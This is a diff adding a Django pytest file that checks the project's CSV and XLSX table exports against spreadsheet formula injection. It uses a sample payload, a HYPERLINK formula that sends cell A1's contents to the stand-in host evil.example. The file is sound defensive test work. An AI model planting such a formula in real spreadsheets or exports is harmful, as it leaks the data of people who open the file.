@@ -1,0 +1,130 @@
+"""Table exports write text that looks like a formula as text (OWASP CSV injection).
+
+Each export is fetched through Django's client with a signed-in reader, with a row whose
+text is a formula; CSV must carry it with a leading quote, XLSX as a string cell.
+"""
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from samenspel.agenda.tests.factories import AgendaFactory, AgreementFactory
+from samenspel.decisions.tests.factories import ProposalFactory
+from samenspel.finance.models import Project
+from samenspel.meetings.constants import OutcomeKind
+from samenspel.meetings.outcomes import outcome_record
+from samenspel.meetings.tests.factories import (
+    ActionFactory,
+    AgendaItemFactory,
+    MeetingFactory,
+    aware,
+)
+from samenspel.organisations.constants import BodyKind
+from samenspel.organisations.tests.factories import BodyFactory, OrganisationFactory
+from samenspel.web.exports import table_response
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def _csv_cells(response) -> list[str]:
+    text = response.content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+
+
+def _xlsx_cells(response) -> list:
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+def assert_neutralised(client, url: str, separator: str = "?") -> None:
+    csv_response = client.get(f"{url}{separator}format=csv")
+    assert csv_response.status_code == 200
+    cells = _csv_cells(csv_response)
+    assert "'" + EVIL in cells
+    assert EVIL not in cells
+
+    xlsx_response = client.get(f"{url}{separator}format=xlsx")
+    assert xlsx_response.status_code == 200
+    cells = _xlsx_cells(xlsx_response)
+    evil = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
+    assert evil, "the row is missing from the export"
+    for cell in evil:
+        assert cell.data_type == "s"
+        assert cell.value == "'" + EVIL
+    assert not any(c.data_type == "f" for c in cells)
+
+
+@pytest.fixture
+def reader(client, reader_user):
+    client.force_login(reader_user)
+    return client
+
+
+@pytest.fixture
+def meeting(portfolio):
+    body = BodyFactory(kind=BodyKind.PORTFOLIO_MEETING, portfolio=portfolio, short_name="PHO X")
+    return MeetingFactory(body=body, starts_at=aware(dt.date(2024, 3, 14)), place=EVIL)
+
+
+def test_action_list(reader, meeting):
+    ActionFactory(meeting=meeting, title=EVIL)
+    assert_neutralised(reader, reverse("meetings:actions") + "?year=2024", "&")
+
+
+def test_decision_list(reader, meeting):
+    item = AgendaItemFactory(meeting=meeting)
+    outcome_record(item=item, kind=OutcomeKind.DECISION, text=EVIL, user=None)
+    assert_neutralised(reader, reverse("meetings:decisions") + "?year=2024", "&")
+
+
+def test_meeting_list(reader, meeting):
+    assert_neutralised(reader, reverse("meetings:list") + "?year=2024", "&")
+
+
+def test_schedule(reader, meeting):
+    assert_neutralised(reader, reverse("meetings:schedule", args=[2024]))
+
+
+def test_proposal_list(reader):
+    ProposalFactory(title=EVIL)
+    assert_neutralised(reader, reverse("decisions:list"))
+
+
+def test_agreement_list(reader):
+    AgreementFactory(agenda=AgendaFactory(), title=EVIL)
+    assert_neutralised(reader, reverse("agenda:agreements"))
+
+
+def test_organisation_list(reader):
+    OrganisationFactory(name=EVIL)
+    assert_neutralised(reader, reverse("organisations:list"))
+
+
+def test_project_list(reader):
+    Project.objects.create(slug="kwaad", name=EVIL)
+    assert_neutralised(reader, reverse("finance:projects"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    response = table_response(fmt="csv", filename="t", columns=["a"], rows=[[start + "1"]])
+    assert _csv_cells(response)[1] == "'" + start + "1"
+
+
+def test_numbers_stay_numbers():
+    rows = [[Decimal("-12.50"), -3, "-3", "gewoon"]]
+    csv_cells = _csv_cells(table_response(fmt="csv", filename="t", columns="abcd", rows=rows))
+    assert csv_cells[4:] == ["-12.50", "-3", "'-3", "gewoon"]
+    xlsx = table_response(fmt="xlsx", filename="t", columns="abcd", rows=rows)
+    number, integer, text, plain = _xlsx_cells(xlsx)[4:]
+    assert number.data_type == "n" and number.value == -12.5
+    assert integer.data_type == "n" and integer.value == -3
+    assert text.data_type == "s" and text.value == "'-3"
+    assert plain.value == "gewoon"
